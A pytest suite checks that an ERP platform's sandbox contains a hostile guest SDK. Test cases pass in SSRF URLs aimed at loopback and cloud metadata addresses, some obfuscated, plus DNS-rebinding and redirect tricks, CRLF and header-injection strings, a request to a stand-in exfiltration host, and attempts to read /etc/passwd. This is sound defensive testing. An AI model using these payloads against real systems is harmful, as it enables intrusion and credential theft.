"""The hostile corpus: every attack is contained with its specific error, then a normal call works.

The hostile guest (tests/sandbox/hostile/hostile_guest.py) is compiled directly, without any scan. Attacks
the host sees swallow the host's error string and return a normal page: the session must raise anyway.
"""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import ValidationError

from erp_platform.sandbox import (
    DeadlineExceeded,
    EgressDenied,
    FuelExhausted,
    GuestTrap,
    InMemoryRateLimiter,
    InvalidGuestOutput,
    LoadedComponent,
    MemoryLimitExceeded,
    OutputTooLarge,
    RateLimited,
    SdkSession,
    TooManyRequests,
    UpstreamError,
)
from erp_platform.sandbox._manifest import AuthConfig, AuthScheme, HeaderSource
from tests.sandbox.conftest import ERP_HOST, OTHER_HOST, REBIND_HOST, Harness

PREFIX = "tenant 'acme', SDK 'hostile' v3, operation '{op}': "
REFUSED = (
    "; private, loopback, link-local, CGNAT, multicast, unspecified and metadata addresses are refused "
    "unless the tenant's egress policy allows "
)

LIMITS: dict[str, Any] = {
    "fuel": 5_000_000_000,
    "memory_bytes": 96 * 1024 * 1024,
    "deadline_seconds": 1.5,
    "max_output_bytes": 1_000_000,
    "max_requests_per_call": 8,
}


def hostile_session(harness: Harness, component: LoadedComponent, **overrides: Any) -> SdkSession:
    services = overrides.pop("services", None)
    limits = {**LIMITS, **overrides.pop("limits", {})}
    manifest = harness.manifest(sdk_name="hostile", allowed=overrides.pop("allowed", (ERP_HOST,)), **limits,
                                **overrides)
    return harness.session(component, manifest, services)


def attack(session: SdkSession, operation: str, params: dict[str, Any] | None = None) -> Exception:
    """Run one attack, return what it raised, and prove the same session still serves a normal call."""
    with pytest.raises(Exception) as caught:
        session.call(operation, params or {})
    assert session.call("ping").result == "pong"
    return caught.value


TRAPS = [
    ("read_passwd", GuestTrap, "the guest crashed with an uncaught exception: FileNotFoundError: [Errno 44] "
     "No such file or directory: '/etc/passwd' (at hostile_guest.py line 31)"),
    ("list_root", GuestTrap, "the guest crashed with an uncaught exception: FileNotFoundError: [Errno 44] "
     "No such file or directory: '/' (at hostile_guest.py line 36)"),
    ("open_socket", GuestTrap, "the guest crashed with an uncaught exception: ModuleNotFoundError: No "
     "module named 'socket' (at hostile_guest.py line 44)"),
    ("run_subprocess", GuestTrap, "the guest crashed with an uncaught exception: ModuleNotFoundError: No "
     "module named 'subprocess' (at hostile_guest.py line 51)"),
    ("load_ctypes", GuestTrap, "the guest crashed with an uncaught exception: ModuleNotFoundError: No "
     "module named 'ctypes' (at hostile_guest.py line 57)"),
    ("infinite_loop", FuelExhausted, "the guest used all its fuel (5,000,000,000 units); it computes too "
     "much for one call (an endless loop?) - raise limits.fuel only if the work is legitimate"),
    ("clock_spin", DeadlineExceeded, "the guest ran past the call's deadline of 1.5s and was interrupted"),
    ("deep_recursion", GuestTrap, "the guest overflowed its stack (runaway recursion)"),
    ("memory_bomb", MemoryLimitExceeded, "the guest needed more than limits.memory_bytes (100,663,296 "
     "bytes) of memory"),
    ("exit_process", GuestTrap, "the guest tried to exit the process (exit status 1)"),
    ("short_sleep", GuestTrap, "the guest asked to wait 0.010s (time.sleep / select): waiting is not "
     "available in the sandbox; the host paces and retries requests itself"),
    ("invalid_output", InvalidGuestOutput, "execute returned text that is not a valid GuestPage: (root): "
     "Invalid JSON: expected ident at line 1 column 2"),
    ("wrong_shape", InvalidGuestOutput, "execute returned text that is not a valid GuestPage: records: "
     "Input should be a valid array; unexpected: Extra inputs are not permitted"),
    ("forged_page", InvalidGuestOutput, "host_page 42 was not fetched in this call (pages fetched: none)"),
    ("bad_error", InvalidGuestOutput, "execute returned an error that is not GuestError JSON: "
     "'not a GuestError JSON'"),
    ("uncaught", GuestTrap, "the guest crashed with an uncaught exception: ValueError: hostile guest gave "
     "up (at hostile_guest.py line 142)"),
]


@pytest.mark.parametrize(("operation", "error", "detail"), TRAPS, ids=[t[0] for t in TRAPS])
def test_attack_is_contained(
    harness: Harness, hostile: LoadedComponent, operation: str, error: type[Exception], detail: str
) -> None:
    # A loop must meet its fuel limit first even on a busy machine: give it a long deadline.
    limits = {"deadline_seconds": 120} if error is FuelExhausted else {}
    with hostile_session(harness, hostile, limits=limits) as session:
        raised = attack(session, operation)
    assert type(raised) is error
    assert str(raised) == PREFIX.format(op=operation) + detail


def test_fuel_stops_a_loop_before_the_deadline_when_fuel_is_the_tighter_limit(
    harness: Harness, hostile: LoadedComponent
) -> None:
    with hostile_session(harness, hostile, limits={"fuel": 50_000_000, "deadline_seconds": 30}) as session:
        raised = attack(session, "infinite_loop")
    assert isinstance(raised, FuelExhausted)


def test_a_long_sleep_fails_at_once_instead_of_blocking_the_host(
    harness: Harness, hostile: LoadedComponent
) -> None:
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "long_sleep")
    assert isinstance(raised, DeadlineExceeded)
    assert str(raised).startswith(PREFIX.format(op="long_sleep") + "the guest asked to wait 3600.000s")


def test_the_environment_and_arguments_are_empty(
    harness: Harness, hostile: LoadedComponent, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ERP_TEST_PLANTED_SECRET", "s3cr3t")
    with hostile_session(harness, hostile) as session:
        result = session.call("environment").result
    assert result == {"environ": {}, "argv": []}


def test_output_bomb(harness: Harness, hostile: LoadedComponent) -> None:
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "output_bomb", {"size": 2_000_000})
    assert isinstance(raised, OutputTooLarge)
    assert str(raised) == PREFIX.format(op="output_bomb") + (
        "the guest returned 2,000,014 bytes, more than limits.max_output_bytes (1,000,000); return fewer "
        "records per page or use host-parsed pages"
    )


SSRF = [
    ("http://127.0.0.1/", "http://127.0.0.1/: 127.0.0.1 is a loopback address", "127.0.0.1:80"),
    ("http://[::1]/", "http://[::1]/: ::1 is a loopback address", "[::1]:80"),
    ("http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/: 169.254.169.254 "
     "is a cloud metadata address", "169.254.169.254:80"),
    ("http://0.0.0.0/", "http://0.0.0.0/: 0.0.0.0 is an unspecified address", "0.0.0.0:80"),
    ("http://2130706433/", "http://127.0.0.1/: 127.0.0.1 is a loopback address", "127.0.0.1:80"),
    ("http://0177.0.0.1/", "http://127.0.0.1/: 127.0.0.1 is a loopback address", "127.0.0.1:80"),
    ("http://127.1/", "http://127.0.0.1/: 127.0.0.1 is a loopback address", "127.0.0.1:80"),
    ("http://[::ffff:169.254.169.254]/", "http://[::ffff:a9fe:a9fe]/: ::ffff:a9fe:a9fe is a cloud metadata "
     "address (embedded in IPv6 ::ffff:a9fe:a9fe)", "[::ffff:a9fe:a9fe]:80"),
]


@pytest.mark.parametrize(("url", "message", "entry"), SSRF, ids=[s[0] for s in SSRF])
def test_ssrf_to_private_addresses(
    harness: Harness, hostile: LoadedComponent, url: str, message: str, entry: str
) -> None:
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "request", {"url": url})
    assert isinstance(raised, EgressDenied)
    assert str(raised) == f"{PREFIX.format(op='request')}egress denied for {message}{REFUSED}'{entry}'"


def test_a_dns_name_resolving_to_a_private_address(harness: Harness, hostile: LoadedComponent) -> None:
    port = harness.erp.port
    with hostile_session(harness, hostile, allowed=(ERP_HOST, REBIND_HOST)) as session:
        raised = attack(session, "request", {"url": f"http://{REBIND_HOST}:{port}/headers"})
    assert isinstance(raised, EgressDenied)
    assert str(raised) == (
        f"{PREFIX.format(op='request')}egress denied for GET http://{REBIND_HOST}:{port}/headers: host "
        f"'{REBIND_HOST}' resolves to 10.0.0.5, a private address{REFUSED}'{REBIND_HOST}:{port}'"
    )


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("http://127.0.0.1:{port}/headers", "http://127.0.0.1:{port}/headers: 127.0.0.1 is a loopback "
         "address" + REFUSED + "'127.0.0.1:{port}'"),
        ("http://169.254.169.254/latest", "http://169.254.169.254/latest: 169.254.169.254 is a cloud "
         "metadata address" + REFUSED + "'169.254.169.254:80'"),
    ],
)
def test_a_redirect_to_a_private_address(
    harness: Harness, hostile: LoadedComponent, target: str, message: str
) -> None:
    port = harness.erp.port
    location = target.format(port=port)
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "request", {"url": f"/redirect?to={location}"})
    assert isinstance(raised, EgressDenied)
    assert str(raised) == f"{PREFIX.format(op='request')}egress denied for {message.format(port=port)}"
    assert [r.path for r in harness.erp.received()] == [f"/redirect?to={location}"]


def test_disallowed_domain(harness: Harness, hostile: LoadedComponent) -> None:
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "request", {"url": "https://exfiltrate.example.net/?d=secret"})
    assert isinstance(raised, EgressDenied)
    assert str(raised) == (
        f"{PREFIX.format(op='request')}egress denied for https://exfiltrate.example.net/: host "
        "'exfiltrate.example.net' is not in the SDK's allowed domains (erp.test)"
    )


@pytest.mark.parametrize(
    ("headers", "message"),
    [
        ([["X-Note", "a\r\nAuthorization: Bearer forged"]], "header 'X-Note' value contains '\\r': only "
         "printable ASCII is allowed (CR/LF injection is refused)"),
        ([["X-Note\r\nInjected", "1"]], "header name 'X-Note\\r\\nInjected' is not a valid HTTP token"),
        ([["Authorization", "Bearer self-made"]], "header 'Authorization' may not be set by the SDK: the "
         "host sets credentials, required headers and hop-by-hop headers itself"),
        *[([[name, value]], f"header {name!r} may not be set by the SDK: the host sets credentials, required "
           "headers and hop-by-hop headers itself")
          for name, value in (("Host", "admin.internal"), ("Content-Length", "5"), ("Transfer-Encoding", "chunked"),
                              ("Connection", "Upgrade"), ("Upgrade", "h2c"), ("TE", "trailers"),
                              ("Trailer", "X"), ("Keep-Alive", "1"), ("Cookie", "session=1"),
                              ("Proxy-Authorization", "Basic eA=="), ("Proxy-Anything", "1"),
                              ("X-Forwarded-For", "10.0.0.1"), ("Forwarded", "for=10.0.0.1"))],
    ],
)
def test_header_attacks(
    harness: Harness, hostile: LoadedComponent, headers: list[list[str]], message: str
) -> None:
    port = harness.erp.port
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "request", {"url": "/headers", "headers": headers})
    assert isinstance(raised, EgressDenied)
    where = f"http://{ERP_HOST}:{port}/headers"
    assert str(raised) == f"{PREFIX.format(op='request')}egress denied for {where}: {message}"
    assert harness.erp.received("/headers") == []


def test_crlf_in_the_url(harness: Harness, hostile: LoadedComponent) -> None:
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "request", {"url": "/headers HTTP/1.1\r\nHost: evil\r\n\r\nGET /x"})
    assert isinstance(raised, EgressDenied)
    assert "URL contains a control or non-printable character ('\\r' at index 17)" in str(raised)
    assert harness.erp.received() == []


BEARER = AuthConfig(scheme=AuthScheme.BEARER, credential="token")


def test_the_credential_is_never_sent_to_another_domain(harness: Harness, hostile: LoadedComponent) -> None:
    other_port = harness.other.port
    with hostile_session(harness, hostile, auth=BEARER) as session:
        raised = attack(session, "request", {"url": f"http://{OTHER_HOST}:{other_port}/headers"})
    assert isinstance(raised, EgressDenied)
    assert str(raised).endswith(f"host '{OTHER_HOST}' is not in the SDK's allowed domains (erp.test)")
    assert harness.other.received() == []


def test_a_redirect_to_another_host_drops_the_credential(harness: Harness, hostile: LoadedComponent) -> None:
    other_port = harness.other.port
    location = f"http://{OTHER_HOST}:{other_port}/headers"
    with hostile_session(harness, hostile, auth=BEARER, allowed=(ERP_HOST, OTHER_HOST)) as session:
        result = session.call("request", {"url": f"/redirect?to={location}"}).result
        direct = session.call("request", {"url": "/headers"}).result
    assert result["status"] == 200
    [arrived] = harness.other.received("/headers")
    assert "Authorization" not in arrived.headers
    assert all(harness.secrets["token"] not in value for value in arrived.headers.values())
    [redirect] = harness.erp.received("/redirect")
    assert redirect.headers["Authorization"] == f"Bearer {harness.secrets['token']}"
    assert direct["status"] == 200


def test_request_flood_past_the_rate_limit(harness: Harness, hostile: LoadedComponent) -> None:
    limiter = InMemoryRateLimiter(rate=0.01, burst=3, max_wait_seconds=0, clock=lambda: 0.0)
    session = hostile_session(harness, hostile, services=harness.services(rate_limiter=limiter))
    with session, pytest.raises(RateLimited) as caught:
        session.call("flood", {"count": 6})
    assert str(caught.value) == (
        f"{PREFIX.format(op='flood')}GET http://{ERP_HOST}:{harness.erp.port}/api/v1/customers/1: tenant "
        "'acme' is over its rate limit of 0.01 requests/s (burst 3); the next request would wait 100.00s, "
        "more than 0s; retry later or raise the tenant's limit"
    )
    assert caught.value.transient is True
    assert len(harness.erp.received("/api/v1/customers/1")) == 3
    other_tenant = harness.manifest(sdk_name="hostile", tenant="globex", **LIMITS)
    with harness.session(hostile, other_tenant, harness.services(rate_limiter=limiter)) as session:
        assert session.call("flood", {"count": 2}).result["status"] == 200


def test_request_flood_past_the_per_call_cap(harness: Harness, hostile: LoadedComponent) -> None:
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "flood", {"count": 100})
    assert isinstance(raised, TooManyRequests)
    assert str(raised) == PREFIX.format(op="flood") + (
        "the SDK made more than 8 HTTP requests in one call (limits.max_requests_per_call); page through the "
        "data with _next instead"
    )
    assert len(harness.erp.received("/api/v1/customers/1")) == 8


def test_non_json_body_for_fetch_json_records(harness: Harness, hostile: LoadedComponent) -> None:
    with hostile_session(harness, hostile) as session:
        raised = attack(session, "fetch_not_json", {"url": "/html"})
    assert isinstance(raised, UpstreamError)
    assert str(raised) == PREFIX.format(op="fetch_not_json") + (
        f"GET http://{ERP_HOST}:{harness.erp.port}/html: the ERP answered HTTP 200 with a body that is not "
        "valid JSON (unexpected character, expected a JSON value: line 1 column 1 (char 0)); the response "
        "was truncated or malformed, retry later or check the ERP"
    )


def test_violations_are_recorded_for_the_audit_trail(harness: Harness, hostile: LoadedComponent) -> None:
    with hostile_session(harness, hostile) as session:
        attack(session, "request", {"url": "http://169.254.169.254/latest/meta-data/iam?token=x"})
    [record] = harness.recorder.records
    assert record.host == "169.254.169.254"
    assert record.path == "/latest/meta-data/iam"
    assert record.query_keys == ("token",)
    assert record.status is None
    assert record.error is not None and record.error.startswith("EgressDenied: egress denied for ")


@pytest.mark.parametrize("name", ["Host", "content-length", "Transfer-Encoding", "Proxy-Authorization",
                                  "X-Forwarded-Host", "Connection"])
def test_a_manifest_cannot_carry_a_host_owned_header(name: str) -> None:
    """A registry row altered to send a host-owned header constantly fails when the session opens."""
    with pytest.raises(ValidationError, match=f"header {name!r} is owned by the host"):
        HeaderSource(name=name, value="admin.internal")
    assert HeaderSource(name="Cookie", value="session=1").name == "Cookie"  # admitted only by a spec declaring it
